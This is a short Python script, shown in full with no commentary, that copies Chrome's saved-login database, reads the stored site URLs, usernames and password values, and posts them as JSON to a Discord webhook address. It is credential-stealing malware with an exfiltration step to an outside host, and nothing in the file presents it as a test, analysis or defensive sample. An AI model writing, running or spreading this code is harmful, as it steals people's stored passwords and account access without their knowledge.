import os, re, json, shutil, sqlite3, requests
HOOK = "https://discord.com/api/webhooks/000000000000000000/AAAAAAAAAAAAAAAAAAAA"
BASE = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
def run():
    shutil.copy(os.path.join(BASE, "Default", "Login" + " Data"), "t.db")
    rows = sqlite3.connect("t.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    requests.post(HOOK, json={"content": json.dumps([list(map(str, r)) for r in rows])[:1900]})
